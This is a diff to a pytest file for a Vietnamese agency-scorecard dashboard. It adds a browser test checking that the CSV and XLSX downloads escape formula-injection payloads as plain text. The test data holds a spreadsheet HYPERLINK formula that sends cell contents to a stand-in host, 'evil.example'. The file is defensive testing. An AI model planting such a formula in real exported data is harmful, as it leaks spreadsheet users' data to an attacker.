@@ -22,8 +22,14 @@ import pytest
 from dashboards.lib import db, queries
 from dashboards.lib.export_safety import csv_bytes, xlsx_bytes
 from pipelines.settings import DataPaths
+from tests import test_browser
 from tests.conftest import run_pipeline_job
 from tests.report_files import HOA_BINH_Q1_2023_AGENCIES, _official_layout, write_csv
+from tests.test_browser import _open, _wait_or_explain, streamlit_server
+
+# the browser smoke test's fixtures (one Chromium per module, screenshots)
+browser = test_browser.browser
+shots = test_browser.shots
 
 FORMULA_NAMES = {
     "Sở Tư pháp": '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Tư pháp")&"Sở Tư pháp"',
@@ -163,3 +169,26 @@ def test_scoped_copies_of_a_pipeline_build(served: DataPaths) -> None:
     assert phu_tho["marts.dim_agency"] == served_rows["marts.dim_agency"] == 4
     assert phu_tho["marts.fct_kpi"] == served_rows["marts.fct_kpi"] > 0
     assert set(agency_rows({"01"}).values()) == {0}
+
+
+@pytest.mark.browser
+def test_the_scorecard_downloads_in_a_browser_hold_the_names_as_text(
+    landed: DataPaths, browser: object, shots: Path, tmp_path: Path
+) -> None:
+    """The buttons themselves: the scorecard's lowest agencies, downloaded by Chromium."""
+    with streamlit_server(landed.root, CCHC_AUTH="off") as url:
+        page = _open(browser, f"{url}/scorecard?province=legacy-17&grain=quarter&period=2023-01-01")
+        files = {}
+        for kind in ("csv", "xlsx"):
+            button = page.locator(f".st-key-dl_bottom_agencies_{kind} button")
+            _wait_or_explain(button, page, shots, f"formula_{kind}")
+            with page.expect_download() as download:
+                button.click()
+            files[kind] = tmp_path / f"agencies.{kind}"
+            download.value.save_as(files[kind])
+        page.close()
+    rows = list(csv.DictReader(io.StringIO(files["csv"].read_text(encoding="utf-8-sig"))))
+    assert {row["agency_name"] for row in rows} == {"'" + n for n in FORMULA_NAMES.values()}
+    cells = xlsx_cells(files["xlsx"])
+    assert set(FORMULA_NAMES.values()) <= {text for _, text, _ in cells.values()}
+    assert not any(formula for _, _, formula in cells.values())
